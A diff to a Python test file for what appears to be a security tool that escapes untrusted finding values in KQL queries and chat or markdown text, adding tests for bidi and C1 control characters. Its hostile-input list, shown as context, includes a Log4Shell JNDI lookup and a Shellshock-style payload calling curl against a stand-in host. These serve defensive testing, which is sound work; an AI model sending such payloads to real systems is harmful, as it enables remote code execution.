@@ -42,6 +42,7 @@ HOSTILE = (
     "`code` ```fence``` ~~~kql *bold* _it_ ~strike~ | a | b |",
     "line1\nline2\r\n# Heading\n- item\n> quote",
     "nul\x00byte\x07bell\x1b[31mred\x7f\u2028sep",
+    "\u202e9.311.0.302 \u2066admin\u2069 \u200fx\u061c next\x85line \x9b31m",  # bidi controls reorder text; C1
     "${jndi:ldap://evil.example/a}",
     "() { :; }; /bin/bash -c 'curl https://evil.example'",
     "x" * 100_000,
@@ -179,7 +180,8 @@ def assert_inert(text: str, where: str, code_block: bool = False) -> None:
     assert "<" not in body and ">" not in body, f"{where}: a raw < or >"
     assert "&" not in ENTITY.sub("", body), f"{where}: an & that is not an entity"
     assert not re.search(r"(?<!\\)[\[\]`]", body), f"{where}: an unescaped [, ] or backtick"
-    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u2028\u2029]", text), f"{where}: a control character"
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", text), f"{where}: a control character"
+    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text), f"{where}: a bidi control"
     for forbidden in ("<!channel>", "<!here", "<https://", "<script", "<img", "<a href"):
         assert forbidden not in text, f"{where}: {forbidden}"
     assert not re.search(r"(?<!\\)\]\(", body), f"{where}: a markdown link"
@@ -225,6 +227,19 @@ def test_evidence_query_with_markup_in_a_value_still_selects_the_same_value() ->
     (points,) = re.findall(r"Computer == unicode_codepoints_to_string\(dynamic\(\[([0-9, ]+)\]\)\)", query)
     assert "".join(chr(int(p)) for p in points.split(",")) == finding.columns["Computer"]
     assert 'cIP == "198.51.100.7"' in query  # plain values stay readable
+
+
+@pytest.mark.parametrize("odd", ["\u202e", "\u2066", "\u200f", "\u061c", "\u2028", "\x85", "\x9b"])
+def test_evidence_query_with_a_bidi_or_c1_control_in_a_key_reads_as_it_runs(odd: str) -> None:
+    """A client IP that would display reversed ("\u202e9.311.0.302" reads 203.0.113.9) is written as its
+    code points in the query, so the description's code block shows what the query matches."""
+    (finding, *_) = hostile_findings()
+    hostile = f"{odd}9.311.0.302"
+    query = evidence_query(dataclasses.replace(finding, columns={**finding.columns, "cIP": hostile}))
+    assert odd not in query
+    (points,) = re.findall(r"cIP == unicode_codepoints_to_string\(dynamic\(\[([0-9, ]+)\]\)\)", query)
+    assert "".join(chr(int(p)) for p in points.split(",")) == hostile
+    assert visible(hostile) == ("\\" + f"u{ord(odd):04x}" if odd not in "\u2028\x85\x9b" else "\ufffd") + "9.311.0.302"
 
 
 @pytest.mark.parametrize("escape", [chat_text, markdown_text])
